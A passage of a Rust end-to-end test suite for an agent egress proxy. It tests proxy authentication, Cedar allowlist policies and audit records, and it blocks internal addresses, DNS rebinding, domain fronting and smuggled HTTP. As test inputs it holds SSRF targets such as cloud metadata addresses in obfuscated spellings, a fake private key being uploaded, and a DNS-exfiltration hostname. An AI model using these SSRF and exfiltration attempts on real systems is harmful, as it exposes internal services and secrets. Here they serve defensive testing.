//! The egress proxy (`egress.listen`): real clients (curl, Python `requests` and `httpx`,
//! Node's fetch through undici's `ProxyAgent`) reach origin servers on loopback through it,
//! with the names resolved by a DNS server of the test's own; every connection and plain-HTTP
//! request is authenticated, judged by Cedar, guarded against internal addresses, DNS
//! rebinding and domain fronting, and recorded.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

use serde_json::{Value, json};
use warden_e2e::egress::{
    Dns, Origin, Pki, assert_python_clients_served, curl, node_fetch, open_tunnel, python_clients,
    tls_trusting,
};
use warden_e2e::warden::{Warden, WardenBuilder, free_port};

const LOOPBACK: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
const WAIT: Duration = Duration::from_secs(10);

/// The build agents may reach `allowed.test` (a name on loopback, so the permit says
/// `@egress("internal")`), except for uploads; nothing else is permitted.
const ALLOWLIST: &str = r#"
@id("egress-allowed-test")
@egress("internal")
permit (
  principal is Agent,
  action in [Action::"egress:connect", Action::"egress:request"],
  resource == Host::"allowed.test"
);

@id("egress-no-uploads")
@reason("uploads are not allowed")
forbid (principal, action == Action::"egress:request", resource)
when { context has method && context has path && context.method == "POST" && context.path like "/upload*" };

@id("egress-no-private-keys")
@reason("the request carries a private key")
forbid (principal, action, resource)
when { context.findings.contains("private_key") };
"#;

/// Warden with the egress proxy on a free port, names resolved by `dns`, `policies`
/// instead of the permit-all one.
async fn warden(dns: &Dns, policies: &[(&str, &str)]) -> (Warden, SocketAddr) {
    warden_with(dns, policies, &[]).await
}

/// [`warden`] with more `settings` (a JSON pointer into the configuration, its value).
async fn warden_with(
    dns: &Dns,
    policies: &[(&str, &str)],
    settings: &[(&str, Value)],
) -> (Warden, SocketAddr) {
    let egress = SocketAddr::from(([127, 0, 0, 1], free_port().unwrap()));
    let mut builder = WardenBuilder::with_upstream_url("http://127.0.0.1:9")
        .without_policy("e2e-permit-all.cedar")
        .set("/egress/listen", json!(egress.to_string()))
        .set("/egress/nameservers", json!([dns.addr.to_string()]))
        .set("/egress/connect_timeout", json!("3s"))
        .set("/egress/first_bytes_timeout", json!("5s"));
    for (name, text) in policies {
        builder = builder.policy(name, text);
    }
    for (pointer, value) in settings {
        builder = builder.set(pointer, value.clone());
    }
    (builder.start().await.expect("warden starts"), egress)
}

/// A raw TCP service on loopback that keeps every connection open and counts the bytes it
/// receives: its port, and the count.
async fn raw_service() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::AsyncReadExt;
    let listener = tokio::net::TcpListener::bind((LOOPBACK, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let received = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&received);
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let counted = Arc::clone(&counted);
            tokio::spawn(async move {
                let mut buf = [0u8; 1024];
                while let Ok(n) = socket.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    counted.fetch_add(n, Ordering::SeqCst);
                }
            });
        }
    });
    (port, received)
}

/// [`warden`] with [`ALLOWLIST`] and the policy file `extra` (name, text); a token of
/// `build-bot`.
async fn allowlist_and(dns: &Dns, extra: (&str, &str)) -> (Warden, SocketAddr, String) {
    let (warden, proxy) = warden(dns, &[("egress.cedar", ALLOWLIST), extra]).await;
    let token = warden.token("build-bot").await.unwrap();
    (warden, proxy, token)
}

/// The audit records of egress to `host`.
fn records_for(warden: &Warden, host: &str) -> Vec<Value> {
    warden
        .audit_records()
        .into_iter()
        .filter(|r| r["detail"]["egress"]["host"] == host)
        .collect()
}

/// The first decision record of egress to `host`.
fn decision_for(warden: &Warden, host: &str) -> Value {
    records_for(warden, host)
        .into_iter()
        .find(|r| r["kind"] == "decision")
        .unwrap_or_else(|| panic!("a decision on {host}"))
}

/// The decision records of the judgements of tunnels to `host` after their `CONNECT`'s
/// (`judged`: `first_bytes`, `reload`), each checked to be by the tunnel's own request with a
/// decision id of its own.
fn tunnel_judgements(warden: &Warden, host: &str, judged: &str) -> Vec<Value> {
    let records = records_for(warden, host);
    let found: Vec<Value> = records
        .iter()
        .filter(|r| r["kind"] == "decision" && r["detail"]["egress"]["judged"] == judged)
        .cloned()
        .collect();
    for record in &found {
        assert_eq!(record["action"], "egress:connect", "{record}");
        let connect = records
            .iter()
            .find(|r| {
                r["kind"] == "decision"
                    && r["request_id"] == record["request_id"]
                    && r["detail"]["egress"]["scheme"] == "connect"
            })
            .unwrap_or_else(|| panic!("the CONNECT's own decision for {record}"));
        assert_ne!(connect["decision_id"], record["decision_id"], "{record}");
        assert!(
            record["action_digest"]
                .as_str()
                .is_some_and(|d| !d.is_empty())
        );
    }
    found
}

/// An allowlisted setup: origins on loopback over HTTPS (a certificate for `allowed.test`
/// and `fronted.test` from a test CA, written to `ca`) and HTTP, `allowed.test` resolving to
/// 127.0.0.1, Warden with [`ALLOWLIST`], and a token of `build-bot`.
struct Allowlisted {
    https: Origin,
    http: Origin,
    /// Kept alive with the setup: it answers for `allowed.test`.
    _dns: Dns,
    warden: Warden,
    proxy: SocketAddr,
    token: String,
    ca: std::path::PathBuf,
}

async fn allowlisted() -> Allowlisted {
    let pki = Pki::new();
    let https = Origin::start(
        LOOPBACK,
        0,
        Some(pki.server(&["allowed.test", "fronted.test"])),
    )
    .await
    .unwrap();
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let (warden, proxy) = warden(&dns, &[("egress.cedar", ALLOWLIST)]).await;
    let token = warden.token("build-bot").await.unwrap();
    let ca = pki.write_ca(warden.setup.dir.path());
    Allowlisted {
        https,
        http,
        _dns: dns,
        warden,
        proxy,
        token,
        ca,
    }
}

#[tokio::test]
async fn curl_reaches_an_allowed_host_over_https_and_http_and_each_request_is_judged() {
    let Allowlisted {
        https,
        http,
        warden,
        proxy,
        token,
        ca,
        _dns,
        ..
    } = allowlisted().await;
    let ca = ca.to_str().unwrap();

    let url = format!("https://allowed.test:{}/simple/", https.addr.port());
    let got = curl(proxy, Some(&token), &["--cacert", ca, &url])
        .await
        .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    let saw: Value = serde_json::from_str(&got.body).unwrap();
    assert_eq!(saw["path"], "/simple/");
    assert_eq!(saw["proxy_authorization"], false);

    // Plain HTTP: judged per request, with its method and path; the proxy's credential
    // does not go on.
    let base = format!("http://allowed.test:{}", http.addr.port());
    let got = curl(proxy, Some(&token), &[&format!("{base}/index.html")])
        .await
        .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    let saw: Value = serde_json::from_str(&got.body).unwrap();
    assert_eq!(saw["host"], format!("allowed.test:{}", http.addr.port()));
    assert_eq!(saw["proxy_authorization"], false);
    let got = curl(
        proxy,
        Some(&token),
        &[
            "-X",
            "POST",
            "--data",
            "x=1",
            &format!("{base}/upload/file"),
        ],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("uploads are not allowed"), "{got:?}");
    // The plain-HTTP body is inspected: what it finds reaches the policy.
    let got = curl(
        proxy,
        Some(&token),
        &[
            "--data-binary",
            "key=-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----",
            &format!("{base}/paste"),
        ],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("private key"), "{got:?}");
    assert_eq!(http.seen().len(), 1, "only the allowed request arrived");

    // Every decision is recorded with where it went; the tunnel's outcome with its bytes.
    let outcome = warden
        .wait_for_audit(WAIT, |r| {
            r["kind"] == "outcome"
                && r["action"] == "egress:connect"
                && r["outcome"]["bytes_down"].as_u64() > Some(0)
        })
        .await
        .unwrap();
    assert!(
        outcome["outcome"]["bytes_up"].as_u64() > Some(0),
        "{outcome}"
    );
    assert_eq!(outcome["detail"]["egress"]["port"], https.addr.port());
    let records = records_for(&warden, "allowed.test");
    let connect = records
        .iter()
        .find(|r| r["kind"] == "decision" && r["action"] == "egress:connect")
        .expect("the CONNECT's decision");
    assert_eq!(connect["decision"], "allow");
    assert_eq!(connect["resource"], "Host::\"allowed.test\"");
    assert_eq!(connect["principal"]["id"], "build-bot");
    assert_eq!(connect["policies"], json!(["egress-allowed-test"]));
    assert_eq!(
        connect["detail"]["egress"]["addresses"],
        json!(["127.0.0.1"])
    );
    assert_eq!(connect["detail"]["egress"]["classes"], json!(["loopback"]));
    let upload = records
        .iter()
        .find(|r| r["kind"] == "decision" && r["detail"]["egress"]["path"] == "/upload/file")
        .expect("the upload's decision");
    assert_eq!(upload["decision"], "deny");
    assert_eq!(upload["detail"]["egress"]["method"], "POST");
    assert_eq!(upload["policies"], json!(["egress-no-uploads"]));
    let paste = records
        .iter()
        .find(|r| r["kind"] == "decision" && r["detail"]["egress"]["path"] == "/paste")
        .expect("the paste's decision");
    assert_eq!(paste["findings"][0]["detector"], "private_key");

    let metrics = warden.metrics().await.unwrap();
    for line in [
        r#"warden_egress_total{kind="connect",result="allowed"} 1"#,
        r#"warden_egress_total{kind="request",result="allowed"} 1"#,
        r#"warden_egress_total{kind="request",result="denied"} 2"#,
        r#"warden_egress_tunnels_total{result="closed"} 1"#,
    ] {
        assert!(metrics.contains(line), "{line} not in:\n{metrics}");
    }
}

#[tokio::test]
async fn python_requests_httpx_and_node_fetch_go_through_the_proxy() {
    let Allowlisted {
        https,
        http,
        warden,
        proxy,
        token,
        ca,
        _dns,
        ..
    } = allowlisted().await;
    let https_url = format!("https://allowed.test:{}/py", https.addr.port());
    let http_url = format!("http://allowed.test:{}/py", http.addr.port());

    let python = python_clients(proxy, &token, &ca, &https_url, &http_url)
        .await
        .unwrap();
    assert_python_clients_served(&python, None);
    let node = node_fetch(proxy, &token, &ca, &[&https_url, &http_url])
        .await
        .unwrap();
    assert_eq!(node[0]["status"], 200, "{node}");
    assert_eq!(node[1]["status"], 200, "{node}");
    assert_eq!(https.seen().len(), 3, "{:?}", https.seen());
    assert_eq!(http.seen().len(), 3, "{:?}", http.seen());
    let tunnels = records_for(&warden, "allowed.test")
        .into_iter()
        .filter(|r| {
            r["kind"] == "decision"
                && r["action"] == "egress:connect"
                && r["detail"]["egress"]["scheme"] == "connect"
        })
        .count();
    // undici's ProxyAgent tunnels http:// URLs too: one CONNECT each for requests' and
    // httpx's https call, two for Node's (each judged again on its first bytes, in a record
    // of its own).
    assert_eq!(
        tunnels, 4,
        "one CONNECT per https client call, two for Node"
    );
}

#[tokio::test]
async fn missing_or_refused_proxy_credentials_get_407_with_a_reason() {
    let Allowlisted {
        http,
        warden,
        proxy,
        _dns,
        ..
    } = allowlisted().await;
    let url = format!("http://allowed.test:{}/", http.addr.port());

    let got = curl(proxy, None, &["-i", &url]).await.unwrap();
    assert_eq!(got.status, 407, "{got:?}");
    assert!(
        got.body
            .to_ascii_lowercase()
            .contains("proxy-authenticate: basic realm=\"warden egress\""),
        "{got:?}"
    );
    assert!(got.body.contains("needs Proxy-Authorization"), "{got:?}");
    let got = curl(proxy, Some("not-a-token"), &[&url]).await.unwrap();
    assert_eq!(got.status, 407, "{got:?}");
    assert!(got.body.contains("proxy authentication failed"), "{got:?}");
    // A CONNECT without credentials: curl reports the proxy's 407.
    let got = curl(proxy, None, &["-p", &url]).await.unwrap();
    assert!(got.stderr.contains("407"), "{got:?}");
    assert!(http.seen().is_empty());
    let rejected = warden
        .wait_for_audit(WAIT, |r| r["kind"] == "rejected" && r["route"] == "egress")
        .await
        .unwrap();
    assert_eq!(rejected["decision"], "rejected");
    let metrics = warden.metrics().await.unwrap();
    assert!(
        metrics.contains(r#"warden_egress_total{kind="none",result="unauthenticated"} 3"#),
        "{metrics}"
    );
}

#[tokio::test]
async fn egress_is_denied_by_default_and_internal_addresses_need_an_explicit_permit() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = http.addr.port();
    let dns = Dns::start(json!({
        "allowed.test": [["127.0.0.1"]],
        "elsewhere.test": [["127.0.0.1"]],
        "metadata.test": [["169.254.169.254"]],
    }))
    .await
    .unwrap();
    // Every host is permitted, but only allowed.test with @egress("internal").
    let anywhere = r#"
@id("egress-anywhere")
permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource);
"#;
    let (warden, proxy, token) = allowlist_and(&dns, ("anywhere.cedar", anywhere)).await;

    let got = curl(
        proxy,
        Some(&token),
        &[&format!("http://allowed.test:{port}/")],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    // A name that resolves to loopback, and the same address in other spellings: refused
    // without reaching it, the reason naming the address and its class.
    for target in [
        format!("elsewhere.test:{port}"),
        format!("127.0.0.1:{port}"),
        format!("2130706433:{port}"),
        format!("0x7f.1:{port}"),
        format!("0177.0.0.1:{port}"),
        format!("127.1:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
    ] {
        let got = curl(proxy, Some(&token), &[&format!("http://{target}/")])
            .await
            .unwrap();
        assert_eq!(got.status, 403, "{target}: {got:?}");
        assert!(
            got.body.contains("127.0.0.1, a loopback address")
                && got.body.contains("@egress(\"internal\")"),
            "{target}: {got:?}"
        );
        // A refused CONNECT's body is never shown (curl, Python, Go): its status line says why.
        let tunnel = curl(
            proxy,
            Some(&token),
            &["-v", "-p", &format!("http://{target}/")],
        )
        .await
        .unwrap();
        assert!(
            tunnel
                .stderr
                .contains("< HTTP/1.1 403 Forbidden: Warden denied this egress: ")
                && tunnel.stderr.contains("127.0.0.1, a loopback address"),
            "CONNECT {target}: {tunnel:?}"
        );
    }
    for (target, class) in [
        ("metadata.test", "link_local"),
        ("169.254.169.254", "link_local"),
        ("0xa9fea9fe", "link_local"),
        ("10.1", "private"),
        ("100.64.0.1", "shared_cgnat"),
        ("[fd00:ec2::254]", "unique_local"),
    ] {
        let got = curl(
            proxy,
            Some(&token),
            &[&format!("http://{target}/latest/meta-data/")],
        )
        .await
        .unwrap();
        assert_eq!(got.status, 403, "{target}: {got:?}");
        assert!(
            got.body.contains(&format!("a {class} address")),
            "{target}: {got:?}"
        );
    }
    assert_eq!(
        http.seen().len(),
        1,
        "only allowed.test arrived: {:?}",
        http.seen()
    );
    let denied = decision_for(&warden, "127.0.0.1");
    assert_eq!(denied["decision"], "deny");
    assert_eq!(denied["resource"], "Host::\"127.0.0.1\"");

    // Without the permit-anywhere policy, nothing but the allowlist passes: default deny.
    warden.write_policy("anywhere.cedar", "").unwrap();
    let reloaded = async {
        loop {
            let got = curl(
                proxy,
                Some(&token),
                &[&format!("http://elsewhere.test:{port}/")],
            )
            .await
            .unwrap();
            if got.body.contains("no policy permits") {
                return got;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let got = tokio::time::timeout(Duration::from_secs(20), reloaded)
        .await
        .expect("the reload takes effect");
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("no policy permits"), "{got:?}");
}

#[tokio::test]
async fn a_global_address_in_a_declared_internal_network_needs_an_internal_permit() {
    // The public address a NAT maps to this host: globally routable, but declared internal.
    // Warden refuses before it dials, so nothing leaves loopback.
    let dns = Dns::start(json!({"nat.test": [["8.8.4.4"]]}))
        .await
        .unwrap();
    let anywhere = r#"
@id("egress-anywhere")
permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource);
"#;
    let (warden, proxy) = warden_with(
        &dns,
        &[("anywhere.cedar", anywhere)],
        &[("/egress/internal_networks", json!(["8.8.4.0/24"]))],
    )
    .await;
    let token = warden.token("build-bot").await.unwrap();
    for target in [
        "nat.test",
        "8.8.4.4",
        "[::ffff:8.8.4.4]",
        "[64:ff9b::808:404]",
    ] {
        let got = curl(proxy, Some(&token), &[&format!("http://{target}/")])
            .await
            .unwrap();
        assert_eq!(got.status, 403, "{target}: {got:?}");
        assert!(
            got.body.contains("8.8.4.4, a declared_internal address")
                || got.body.contains("a declared_internal address"),
            "{target}: {got:?}"
        );
        let tunnel = curl(proxy, Some(&token), &["-p", &format!("https://{target}/")])
            .await
            .unwrap();
        assert!(
            tunnel.stderr.contains("403"),
            "CONNECT {target}: {tunnel:?}"
        );
    }
    let denied = decision_for(&warden, "nat.test");
    assert_eq!(denied["decision"], "deny");
    assert_eq!(
        denied["detail"]["egress"]["classes"],
        json!(["declared_internal"])
    );
}

#[tokio::test]
async fn a_tls_server_name_other_than_the_tunnel_host_is_refused() {
    let Allowlisted {
        https,
        warden,
        proxy,
        token,
        ca,
        _dns,
        ..
    } = allowlisted().await;

    // A tunnel opened to allowed.test whose ClientHello names fronted.test.
    let target = format!("allowed.test:{}", https.addr.port());
    let (stream, head) = open_tunnel(proxy, &target, &token).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let connector = tls_trusting(&ca).unwrap();
    let name = rustls::pki_types::ServerName::try_from("fronted.test").unwrap();
    let handshake = tokio::time::timeout(WAIT, connector.connect(name, stream))
        .await
        .expect("the handshake ends");
    assert!(
        handshake.is_err(),
        "the tunnel must not carry TLS for another host"
    );
    assert!(https.seen().is_empty());

    tunnel_closed(
        &warden,
        "fronted.test",
        "is not the tunnel's destination \"allowed.test\"",
        "egress_sni_mismatch",
    )
    .await;
    // The refusal on the first bytes is a decision record of its own.
    let judged = tunnel_judgements(&warden, "allowed.test", "first_bytes");
    assert_eq!(judged.len(), 1, "{judged:#?}");
    assert_eq!(judged[0]["decision"], "deny");
    assert_eq!(judged[0]["overruled_by"], "sni_mismatch");
    assert_eq!(judged[0]["detail"]["egress"]["sni"], "fronted.test");
    assert_eq!(judged[0]["detail"]["egress"]["scheme"], "https");
}

#[tokio::test]
async fn a_rebinding_name_is_dialled_at_the_address_that_was_judged() {
    // rebind.test answers 127.0.0.1, 127.0.0.1, 127.0.0.2 in turn, with TTL 0 (three, so that
    // the plain requests and the tunnels, asked alternately, each see both). Policy allows it, but
    // never towards 127.0.0.2: a proxy that looked the name up again to dial would reach
    // the origin on 127.0.0.2 after judging 127.0.0.1.
    let first = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = first.addr.port();
    let second = Origin::start(IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2)), port, None)
        .await
        .unwrap();
    let dns = Dns::start(json!({"rebind.test": [["127.0.0.1"], ["127.0.0.1"], ["127.0.0.2"]]}))
        .await
        .unwrap();
    let policy = r#"
@id("egress-rebind-test")
@egress("internal")
permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource == Host::"rebind.test");

@id("egress-not-127-0-0-2")
@reason("127.0.0.2 is off limits")
forbid (principal, action in [Action::"egress:connect", Action::"egress:request"], resource)
when { context.addresses.contains(ip("127.0.0.2")) };
"#;
    let (warden, proxy) = warden(&dns, &[("egress.cedar", policy)]).await;
    let token = warden.token("build-bot").await.unwrap();

    let mut allowed = 0;
    let mut denied = 0;
    for _ in 0..6 {
        let got = curl(
            proxy,
            Some(&token),
            &[&format!("http://rebind.test:{port}/")],
        )
        .await
        .unwrap();
        match got.status {
            200 => allowed += 1,
            403 => {
                assert!(got.body.contains("127.0.0.2 is off limits"), "{got:?}");
                denied += 1;
            }
            _ => panic!("{got:?}"),
        }
        let got = curl(
            proxy,
            Some(&token),
            &["-p", &format!("http://rebind.test:{port}/")],
        )
        .await
        .unwrap();
        if got.status == 200 {
            allowed += 1;
        } else {
            assert!(got.stderr.contains("403"), "{got:?}");
            denied += 1;
        }
    }
    let answers: Vec<Value> = dns
        .queries()
        .into_iter()
        .filter(|q| q["type"] == "A")
        .map(|q| q["answer"].clone())
        .collect();
    assert!(
        answers.contains(&json!(["127.0.0.1"])) && answers.contains(&json!(["127.0.0.2"])),
        "the DNS server rebound the name: {answers:?}"
    );
    assert!(
        allowed > 0 && denied > 0,
        "allowed {allowed}, denied {denied}"
    );
    assert_eq!(second.connections(), 0, "127.0.0.2 was never dialled");
    assert!(!first.seen().is_empty());
}

#[tokio::test]
async fn a_tunnel_is_judged_again_once_its_first_bytes_show_what_it_carries() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let tls_only = r#"
@id("egress-tls-only")
@reason("egress tunnels carry TLS only")
forbid (principal, action == Action::"egress:connect", resource)
when { context.scheme != "connect" && context.scheme != "https" };
"#;
    let (warden, proxy, token) = allowlist_and(&dns, ("tls-only.cedar", tls_only)).await;

    // The CONNECT is allowed (scheme "connect"); its first bytes are plain HTTP, which the
    // policy forbids: the tunnel closes before a byte reaches the origin.
    let got = curl(
        proxy,
        Some(&token),
        &["-p", &format!("http://allowed.test:{}/", http.addr.port())],
    )
    .await
    .unwrap();
    assert_ne!(got.status, 200, "{got:?}");
    assert!(http.seen().is_empty(), "{:?}", http.seen());
    tunnel_closed(
        &warden,
        "policy denies this tunnel",
        "egress tunnels carry TLS only (policies: egress-tls-only)",
        "egress_tunnel_denied",
    )
    .await;
    // The second judgement is a decision record of its own, with what the tunnel carries.
    let judged = tunnel_judgements(&warden, "allowed.test", "first_bytes");
    assert_eq!(judged.len(), 1, "{judged:#?}");
    assert_eq!(judged[0]["decision"], "deny");
    assert_eq!(judged[0]["policies"], json!(["egress-tls-only"]));
    assert_eq!(
        judged[0]["reasons"],
        json!(["egress tunnels carry TLS only"])
    );
    assert_eq!(judged[0]["detail"]["egress"]["scheme"], "http");
    assert_eq!(judged[0]["facts"]["context"]["scheme"], "http");
}

#[tokio::test]
async fn http_that_lenient_servers_accept_is_served_as_http_in_a_tunnel_not_copied_as_tcp() {
    use tokio::io::AsyncWriteExt;
    let (port, received) = raw_service().await;
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    // allowed.test is permitted whatever its tunnels carry: what is copied as TCP is not
    // inspected, what is served as HTTP is judged request by request (uploads forbidden).
    let (warden, proxy) = warden(&dns, &[("egress.cedar", ALLOWLIST)]).await;
    let token = warden.token("build-bot").await.unwrap();
    let body = "x=1";
    // Python's http.server splits its request line on any white space; nginx takes several
    // spaces between its parts.
    for line in [
        "POST  /upload/x HTTP/1.1",
        "POST\t/upload/x\tHTTP/1.1",
        " POST /upload/x HTTP/1.1",
        "POST /upload/x http/1.1",
    ] {
        let (mut tunnel, answer) = open_tunnel(proxy, &format!("allowed.test:{port}"), &token)
            .await
            .unwrap();
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        let request = format!(
            "{line}\r\nHost: allowed.test\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        tunnel.write_all(request.as_bytes()).await.unwrap();
        assert_closed(&mut tunnel).await;
    }
    let judged = tunnel_judgements(&warden, "allowed.test", "first_bytes");
    assert_eq!(judged.len(), 4, "{judged:#?}");
    for record in &judged {
        assert_eq!(record["detail"]["egress"]["scheme"], "http", "{record}");
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        received.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "a request reached the service uninspected"
    );
}

#[tokio::test]
async fn plain_http_in_a_tunnel_is_judged_per_request_as_the_tunnels_agent() {
    let Allowlisted {
        http,
        warden,
        proxy,
        token,
        _dns,
        ..
    } = allowlisted().await;
    let url = format!("http://allowed.test:{}", http.addr.port());

    // What OpenClaw's web_fetch does for http:// URLs: CONNECT, then plain HTTP inside.
    let got = curl(proxy, Some(&token), &["-p", &format!("{url}/page")])
        .await
        .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    let saw: Value = serde_json::from_str(&got.body).unwrap();
    assert_eq!(saw["path"], "/page");
    assert_eq!(saw["host"], format!("allowed.test:{}", http.addr.port()));
    let got = curl(
        proxy,
        Some(&token),
        &[
            "-p",
            "-X",
            "POST",
            "--data",
            "x=1",
            &format!("{url}/upload/a"),
        ],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("uploads are not allowed"), "{got:?}");
    assert_eq!(http.seen().len(), 1, "{:?}", http.seen());

    let upload = warden
        .wait_for_audit(WAIT, |r| {
            r["kind"] == "decision" && r["detail"]["egress"]["path"] == "/upload/a"
        })
        .await
        .unwrap();
    assert_eq!(upload["action"], "egress:request");
    assert_eq!(upload["decision"], "deny");
    assert_eq!(upload["principal"]["id"], "build-bot");
    assert_eq!(upload["policies"], json!(["egress-no-uploads"]));
}

#[tokio::test]
async fn a_tunnels_requests_are_refused_once_its_token_is_revoked() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Allowlisted {
        http,
        warden,
        proxy,
        token,
        _dns,
        ..
    } = allowlisted().await;
    let target = format!("allowed.test:{}", http.addr.port());
    let (mut stream, head) = open_tunnel(proxy, &target, &token).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    // One plain-HTTP request through the tunnel, then another once the token is revoked.
    // What the tunnel answers: empty once it is closed.
    let mut ask = async |path: &str| {
        let request = format!("GET {path} HTTP/1.1\r\nHost: {target}\r\n\r\n");
        if stream.write_all(request.as_bytes()).await.is_err() {
            return String::new();
        }
        let mut answer = vec![0u8; 8192];
        let n = tokio::time::timeout(WAIT, stream.read(&mut answer))
            .await
            .expect("an answer within the wait")
            .unwrap_or(0);
        String::from_utf8_lossy(&answer[..n]).into_owned()
    };
    let first = ask("/before").await;
    assert!(first.starts_with("HTTP/1.1 200"), "{first}");
    let out = warden
        .cli(&["token", "revoke", "--token", &token, "--reason", "leaked"])
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The revocation reaches the serving process within its refresh interval.
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let got = curl(proxy, Some(&token), &[&format!("http://{target}/probe")])
            .await
            .unwrap();
        if got.status != 200 {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the revocation applies"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // Refused inside the tunnel, or the tunnel already cut by the revocation (fleet/cut.rs).
    let second = ask("/after").await;
    assert!(
        second.is_empty() || second.contains("token_revoked"),
        "{second}"
    );
    assert!(!second.starts_with("HTTP/1.1 200"), "{second}");
    assert!(
        http.seen().iter().all(|r| r["path"] != "/after"),
        "the revoked token's request reached the origin: {:?}",
        http.seen()
    );
}

/// Checks that the agent's end of a tunnel, `stream`, is closed within [`WAIT`].
async fn assert_closed(stream: &mut tokio::net::TcpStream) {
    use tokio::io::AsyncReadExt;
    let mut rest = Vec::new();
    let closed = tokio::time::timeout(WAIT, stream.read_to_end(&mut rest)).await;
    assert!(closed.is_ok(), "the tunnel is not closed");
}

/// Waits for the outcome record of a tunnel closed with an error naming `find`, checks that the
/// error says `says`, and that the tunnel is counted under `result`.
async fn tunnel_closed(warden: &Warden, find: &str, says: &str, result: &str) {
    let closed = warden
        .wait_for_audit(WAIT, |r| {
            r["kind"] == "outcome"
                && r["outcome"]["error"]
                    .as_str()
                    .is_some_and(|e| e.contains(find))
        })
        .await
        .unwrap();
    assert!(
        closed["outcome"]["error"].as_str().unwrap().contains(says),
        "{closed}"
    );
    let metrics = warden.metrics().await.unwrap();
    let counted = format!(r#"warden_egress_tunnels_total{{result="{result}"}} 1"#);
    assert!(metrics.contains(&counted), "{metrics}");
}

#[tokio::test]
async fn a_name_no_policy_allows_is_never_looked_up() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = http.addr.port();
    // The DNS server would answer for the name that carries a secret: only a query for it
    // would leak it.
    let dns = Dns::start(json!({
        "allowed.test": [["127.0.0.1"]],
        "c2vjcmv0.exfil.test": [["127.0.0.1"]],
    }))
    .await
    .unwrap();
    let (warden, proxy) = warden(&dns, &[("egress.cedar", ALLOWLIST)]).await;
    let token = warden.token("build-bot").await.unwrap();
    let exfil = format!("c2vjcmv0.exfil.test:{port}");
    let queried = |name: &str| {
        dns.queries()
            .iter()
            .filter_map(|q| q["name"].as_str().map(str::to_owned))
            .any(|n| n.contains(name))
    };

    let got = curl(proxy, Some(&token), &[&format!("http://{exfil}/")])
        .await
        .unwrap();
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("no policy permits"), "{got:?}");
    let tunnel = curl(proxy, Some(&token), &["-p", &format!("http://{exfil}/")])
        .await
        .unwrap();
    assert!(tunnel.stderr.contains("403"), "{tunnel:?}");
    let got = curl(
        proxy,
        Some(&token),
        &[&format!("http://allowed.test:{port}/")],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    // The DNS server logs each query as it answers; its log reaches the test a moment later.
    let logged = async {
        while !queried("allowed.test") {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    tokio::time::timeout(WAIT, logged)
        .await
        .unwrap_or_else(|_| panic!("allowed.test was looked up: {:?}", dns.queries()));
    assert!(
        !queried("exfil"),
        "a denied name was looked up: {:?}",
        dns.queries()
    );

    // The records: the denied name without addresses, the allowed one with its address.
    let denied: Vec<Value> = records_for(&warden, "c2vjcmv0.exfil.test")
        .into_iter()
        .filter(|r| r["kind"] == "decision")
        .collect();
    assert_eq!(denied.len(), 2, "{denied:?}");
    for record in &denied {
        assert_eq!(record["decision"], "deny", "{record}");
        assert_eq!(
            record["detail"]["egress"]["addresses"],
            json!([]),
            "{record}"
        );
    }
    let allowed = decision_for(&warden, "allowed.test");
    assert_eq!(allowed["decision"], "allow");
    assert_eq!(
        allowed["detail"]["egress"]["addresses"],
        json!(["127.0.0.1"])
    );
    assert_eq!(allowed["detail"]["egress"]["classes"], json!(["loopback"]));

    // A policy that reads the addresses needs them to judge: then the name is looked up
    // first, and the forbid on the address decides.
    let by_address = r#"
@id("egress-not-to-loopback")
@reason("not to loopback")
forbid (
  principal,
